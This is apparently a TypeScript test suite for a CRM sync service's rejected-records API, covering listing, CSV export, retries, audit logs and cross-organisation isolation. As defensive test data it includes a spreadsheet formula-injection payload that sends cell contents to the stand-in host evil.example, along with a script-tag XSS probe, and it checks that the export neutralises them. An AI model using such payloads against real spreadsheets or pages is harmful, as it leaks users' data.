import { expect, test } from 'vitest';
import type { RejectedKinds, RejectedPage } from '../../../src/http/api/rejected/schemas.ts';
import type { RunPage } from '../../../src/http/api/runs/schemas.ts';
import { startConsole } from '../../support/console.ts';
import { startLoop } from '../../support/loop.ts';
import { handsOf } from '../../support/loop-crm.ts';
import { eventually, startQueueWorker } from '../../support/queue-worker.ts';

const small = { sandbox: { contacts: 6 }, pull: { objects: [] }, push: 'auto' } as const;
const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`;

/** Three people whose address is none, one of them a formula. */
async function loopWithRejects(own: AsyncDisposableStack) {
  const loop = own.use(await startLoop(small));
  const hands = handsOf(loop);
  const [first, second, third] = hands.living();
  hands.edit(first!.id, { email: formula, firstname: '<script>alert(1)</script>' });
  hands.edit(second!.id, { email: 'nobody at all' });
  hands.edit(third!.id, { email: '+1 555 0100' });
  await loop.sync();
  return { loop, hands, first: first!, second: second! };
}

test('rejections are counted by kind with a remedy, and each record is listed with what it held', async () => {
  await using own = new AsyncDisposableStack();
  const { loop, first } = await loopWithRejects(own);
  const console = own.use(await startConsole(loop.services));
  const viewer = await console.signedIn(loop.orgId, 'viewer');
  const { kinds } = (await viewer.ask('GET', '/orgs/acme/rejected')).body as RejectedKinds;
  expect(kinds).toMatchObject([
    {
      of: 'connection',
      name: 'acme-hubspot',
      object: 'contacts',
      stage: 'map',
      code: 'invalid-value',
      field: 'email',
      count: 3,
      effect: 'null',
      remedy: expect.stringMatching(/mapping/) as string,
    },
  ]);
  const query = 'name=acme-hubspot&object=contacts&stage=map&code=invalid-value&field=email';
  const page = (await viewer.ask('GET', `/orgs/acme/rejected/records?${query}&limit=2`)).body as RejectedPage;
  const rest = (await viewer.ask('GET', `/orgs/acme/rejected/records?${query}&limit=2&after=${page.next}`))
    .body as RejectedPage;
  expect([page.records.length, rest.records.length, rest.next]).toEqual([2, 1, null]);
  expect([...page.records, ...rest.records].find(({ externalId }) => externalId === String(first.id))).toMatchObject({
    field: 'email',
    value: formula,
    message: expect.stringContaining('email') as string,
    times: 1,
    leadName: expect.stringContaining('<script>') as string,
  });
  const none = await viewer.ask('GET', `/orgs/acme/rejected/records?name=acme-hubspot&field=phone`);
  expect(none.body).toEqual({ records: [], next: null });
});

test('the export is a file, and no value of it runs in a spreadsheet', async () => {
  await using own = new AsyncDisposableStack();
  const { loop } = await loopWithRejects(own);
  const console = own.use(await startConsole(loop.services));
  const viewer = await console.signedIn(loop.orgId, 'viewer');
  const { status, headers, body } = await viewer.ask('GET', '/orgs/acme/rejected/export?name=acme-hubspot');
  expect(status).toBe(200);
  expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(headers.get('content-disposition')).toMatch(/^attachment; filename="rejected-acme-hubspot-[\d-]+\.csv"$/);
  const lines = String(body).trim().split('\r\n');
  expect(lines).toHaveLength(4);
  expect(String(body)).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
  expect(String(body)).toContain(`"'+1 555 0100"`);
  expect(String(body)).not.toMatch(/(?:^|[,\n])"?[=+\-@]/);
});

test('an operator lets a worker try again, and what was mended is rejected no more', async () => {
  await using own = new AsyncDisposableStack();
  const { loop, hands, second } = await loopWithRejects(own);
  const { wake } = own.use(await startQueueWorker(loop));
  const console = own.use(await startConsole(loop.services, { wake }));
  const operator = await console.signedIn(loop.orgId, 'operator');
  hands.edit(second.id, { email: 'somebody@school.example' });
  const asked = await operator.ask('POST', '/orgs/acme/connections/acme-hubspot/rejected/retry');
  expect(asked).toMatchObject({ status: 202 });
  const run = await eventually(async () => {
    const { runs } = (await operator.ask('GET', '/orgs/acme/runs?kind=replay')).body as RunPage;
    return runs.find(({ endedAt }) => endedAt !== null);
  });
  expect(run.counts).toMatchObject({ pushed: 0, nulled: 2 });
  const { kinds } = (await operator.ask('GET', '/orgs/acme/rejected')).body as RejectedKinds;
  expect(kinds).toMatchObject([{ count: 2 }]);
});

test('an operator has one record tried again: it alone is read, and what was mended is rejected no more', async () => {
  await using own = new AsyncDisposableStack();
  const { loop, hands, first, second } = await loopWithRejects(own);
  const { wake } = own.use(await startQueueWorker(loop));
  const console = own.use(await startConsole(loop.services, { wake }));
  const operator = await console.signedIn(loop.orgId, 'operator');
  const query = 'name=acme-hubspot&object=contacts&stage=map&code=invalid-value&field=email';
  const list = async () =>
    ((await operator.ask('GET', `/orgs/acme/rejected/records?${query}`)).body as RejectedPage).records;
  const before = await list();
  const of = (id: number) => before.find(({ externalId }) => externalId === String(id))!;
  expect(before.every(({ isRetryable }) => isRetryable)).toBe(true);
  for (const { id } of [first, second]) hands.edit(id, { email: `nr${id}@school.example` });
  const path = `/orgs/acme/rejected/records/${of(second.id).id}/retry`;
  // Twice is once.
  for (let time = 0; time < 2; time += 1) {
    expect(await operator.ask('POST', path)).toMatchObject({ status: 202, body: { connection: 'acme-hubspot' } });
  }
  const after = await eventually(async () => {
    const records = await list();
    return records.length < before.length ? records : null;
  });
  expect(after.map(({ externalId }) => externalId)).not.toContain(String(second.id));
  expect(after.find(({ externalId }) => externalId === String(first.id))).toMatchObject({ times: 1 });
  expect(await operator.ask('POST', path)).toMatchObject({ status: 404, body: { code: 'rejected-unknown' } });
  const audit = await loop.db.sql(
    `select actor, subject, after from audit_log where action = 'rejected.retry' limit 1`,
  );
  expect(audit).toEqual([
    {
      actor: operator.email,
      subject: 'acme-hubspot',
      after: { id: of(second.id).id, object: 'contacts', stage: 'map' },
    },
  ]);
});

test('of refused writes, the one that is asked for is written again, and no other', async () => {
  await using own = new AsyncDisposableStack();
  const loop = own.use(await startLoop(small));
  await loop.sync();
  loop.crm.faults.activate({ name: 'unknown-property', property: 'leadloop_score' });
  for (const { id } of handsOf(loop).living())
    handsOf(loop).edit(id, { jobtitle: 'Superintendent', hs_email_click: '40' });
  await loop.sync();
  const dead = await loop.db.sql<{ id: string }>(`select external_id as id from push_states where state = 'dead'`);
  expect(dead.length).toBeGreaterThan(1);
  loop.crm.faults.clear();
  const { wake } = own.use(await startQueueWorker(loop));
  const console = own.use(await startConsole(loop.services, { wake }));
  const operator = await console.signedIn(loop.orgId, 'operator');
  const list = async () =>
    ((await operator.ask('GET', '/orgs/acme/rejected/records?name=acme-hubspot&stage=push')).body as RejectedPage)
      .records;
  const [chosen] = await list();
  await operator.ask('POST', `/orgs/acme/rejected/records/${chosen!.id}/retry`);
  await eventually(async () => {
    const [row] = await loop.db.sql<{ state: string }>('select state from push_states where external_id = $1', [
      chosen!.externalId,
    ]);
    return row!.state === 'settled' ? row : null;
  });
  const left = await loop.db.sql(`select 1 from push_states where state = 'dead'`);
  expect(left).toHaveLength(dead.length - 1);
});

test('what cannot be read by itself, or is paused, is not asked for', async () => {
  await using own = new AsyncDisposableStack();
  const { loop } = await loopWithRejects(own);
  const asked: object[] = [];
  const console = own.use(await startConsole(loop.services, { wake: async (wakeup) => asked.push(wakeup) > 0 }));
  const admin = await console.signedIn(loop.orgId, 'admin');
  const [call] = await loop.db.sql<{ id: number }>(
    `insert into rejected_records (org_id, connection_id, object, external_id, stage, field, code, message, effect, fields,
       first_seen_at, last_seen_at)
     values ($1, $2, 'calls', '1', 'decode', '', 'invalid-date', 'no date', 'reject', '{}', now(), now()) returning id::int`,
    [loop.orgId, loop.connectionId],
  );
  const retry = (id: number) => admin.ask('POST', `/orgs/acme/rejected/records/${id}/retry`);
  expect(await retry(call!.id)).toMatchObject({ status: 409, body: { code: 'rejected-unreadable' } });
  const { records } = (await admin.ask('GET', '/orgs/acme/rejected/records?name=acme-hubspot')).body as RejectedPage;
  expect(records.find(({ object }) => object === 'calls')).toMatchObject({ isRetryable: false });
  const umbrella = await loop.db.org('umbrella');
  const stranger = await console.signedIn(umbrella, 'admin');
  const contact = records.find(({ object }) => object === 'contacts')!;
  expect(await stranger.ask('POST', `/orgs/umbrella/rejected/records/${contact.id}/retry`)).toMatchObject({
    status: 404,
    body: { code: 'rejected-unknown' },
  });
  const pause = { direction: 'pull', reason: 'sales cleans up' };
  await admin.ask('POST', '/orgs/acme/connections/acme-hubspot/pause', pause);
  expect(await retry(contact.id)).toMatchObject({ status: 409, body: { code: 'connection-paused' } });
  expect(asked).toEqual([]);
  expect(await loop.db.sql('select 1 from change_hints')).toEqual([]);
});

test('rows of a source are among them', async () => {
  await using own = new AsyncDisposableStack();
  const loop = own.use(await startLoop(small));
  await loop.db.sql(
    `insert into data_sources (id, org_id, name, kind, query) values ('00000000-0000-4000-8000-0000000000aa', $1, 'warehouse', 'signups', 'select 1')`,
    [loop.orgId],
  );
  await loop.db.sql(
    `insert into source_rejects (org_id, source_id, row_hash, field, code, message, fields, first_seen_at, last_seen_at)
     values ($1, '00000000-0000-4000-8000-0000000000aa', 'x', 'employees', 'invalid', 'employees is no number',
       '{"email": "a@b.example", "employees": "@many"}', now(), now())`,
    [loop.orgId],
  );
  const console = own.use(await startConsole(loop.services));
  const viewer = await console.signedIn(loop.orgId, 'viewer');
  expect((await viewer.ask('GET', '/orgs/acme/rejected')).body).toMatchObject({
    kinds: [{ of: 'source', name: 'warehouse', object: 'signups', field: 'employees', count: 1 }],
  });
  expect((await viewer.ask('GET', '/orgs/acme/rejected/records?of=source&name=warehouse')).body).toMatchObject({
    records: [{ externalId: 'a@b.example', value: '@many' }],
  });
  const { body } = await viewer.ask('GET', '/orgs/acme/rejected/export?of=source&name=warehouse');
  expect(body).toContain(`"'@many"`);
});

test('what another organisation has rejected is not there, and a viewer retries nothing', async () => {
  await using own = new AsyncDisposableStack();
  const { loop } = await loopWithRejects(own);
  const umbrella = await loop.db.org('umbrella');
  const console = own.use(await startConsole(loop.services, { wake: async () => true }));
  const stranger = await console.signedIn(umbrella, 'admin');
  expect((await stranger.ask('GET', '/orgs/umbrella/rejected')).body).toEqual({ kinds: [] });
  for (const [method, path] of [
    ['GET', '/orgs/umbrella/rejected/records?name=acme-hubspot'],
    ['GET', '/orgs/umbrella/rejected/export?name=acme-hubspot'],
    ['POST', '/orgs/umbrella/connections/acme-hubspot/rejected/retry'],
  ] as const) {
    expect(await stranger.ask(method, path), path).toMatchObject({ status: 404, body: { code: 'connection-unknown' } });
  }
  const viewer = await console.signedIn(loop.orgId, 'viewer');
  expect(await viewer.ask('POST', '/orgs/acme/connections/acme-hubspot/rejected/retry')).toMatchObject({ status: 403 });
});
